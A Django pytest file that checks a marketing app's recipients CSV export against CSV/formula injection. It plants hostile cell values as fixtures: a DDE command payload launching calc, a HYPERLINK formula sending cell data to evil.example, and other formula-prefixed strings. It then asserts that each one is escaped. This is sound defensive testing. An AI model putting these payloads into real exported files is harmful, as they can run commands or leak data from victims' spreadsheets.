"""The recipients CSV is safe to open in a spreadsheet: names and ids that start like a
formula are prefixed with a single quote (OWASP's advice for CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from deliveries.models import Delivery
from deliveries.services import delivery_run, delivery_schedule_due
from tests.deliveries.conftest import make_customers
from tests.factories import CustomerFactory

pytestmark = pytest.mark.django_db


def test_recipients_csv_cells_cannot_run_as_formulas(
    sandbox, destination, make_campaign, marketer_client
):
    make_customers(20)
    CustomerFactory(customer_id="-2+3+cmd|' /C calc'!A0", loyalty_tier="Gold")
    # Half in the control group, so both treatments have rows (whatever the hash buckets).
    make_campaign(destination, name="Formulas", groups=("Gold",), control_bp=5000)
    [delivery_id] = delivery_schedule_due()
    delivery_run(delivery_id=delivery_id)
    delivery = Delivery.objects.get(pk=delivery_id)
    # The snapshot keeps the names the campaign had when it ran: make them hostile.
    delivery.treatments.filter(is_control=False).update(
        sub_audience_name='=HYPERLINK("http://evil.example/?"&A1)', treatment_name="@SUM(1+1)"
    )
    delivery.treatments.filter(is_control=True).update(treatment_name="\t+1+1")

    response = marketer_client.get(reverse("deliveries:recipients_csv", args=[delivery.pk]))
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(body, newline="")))
    assert len(rows) == 1 + 21
    hostile_id = [row for row in rows if "cmd" in row[0]]
    assert [row[0] for row in hostile_id] == ["'-2+3+cmd|' /C calc'!A0"]
    names = {(row[1], row[2]) for row in rows[1:]}
    assert ('\'=HYPERLINK("http://evil.example/?"&A1)', "'@SUM(1+1)") in names
    assert any(treatment == "'\t+1+1" for _, treatment in names)
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
